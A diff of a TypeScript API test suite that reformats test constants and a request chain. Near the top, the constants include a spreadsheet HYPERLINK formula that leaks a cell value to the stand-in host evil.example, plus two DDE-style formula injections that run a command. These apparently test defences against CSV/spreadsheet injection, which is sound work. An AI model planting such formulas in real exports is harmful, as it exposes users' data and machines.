@@ -21,8 +21,8 @@ let driver: Driver;
 let app: Express;
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Details")';
-const EVIDENCE_FORMULA = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-const NAME_FORMULA = '\u3000-2+3+cmd|\' /C calc\'!A0';
+const EVIDENCE_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";
+const NAME_FORMULA = "\u3000-2+3+cmd|' /C calc'!A0";
 /** A paragraph with XML 1.0's forbidden characters: Word's line break (VT), a form feed, a bell, U+FFFF. */
 const XML_HOSTILE = 'first line\u000Bsecond line\u000Cnext page\u0007\uFFFF end';
 /** 10 + (SNIPPET_WIDTH - 11) clusters, then an emoji on the last place before "…": a UTF-16 cut there halves it. */
@@ -135,7 +135,9 @@ describe('text cut for display', () => {
   });
 
   it('a paragraph begun in node details ends between whole characters', async () => {
-    const res = await request(app).get(`/api/nodes/${encodeURIComponent('state:ARG')}?limit=1000`).expect(200);
+    const res = await request(app)
+      .get(`/api/nodes/${encodeURIComponent('state:ARG')}?limit=1000`)
+      .expect(200);
     const texts = (res.body.relationships as { items: { other: { id: string; text: string | null } }[] }[]).flatMap((g) => g.items.map((i) => i.other));
     const cut = texts.find((o) => o.id === detailsParagraph);
     expect(cut?.text).toBe(`${'x'.repeat(199)}…`);
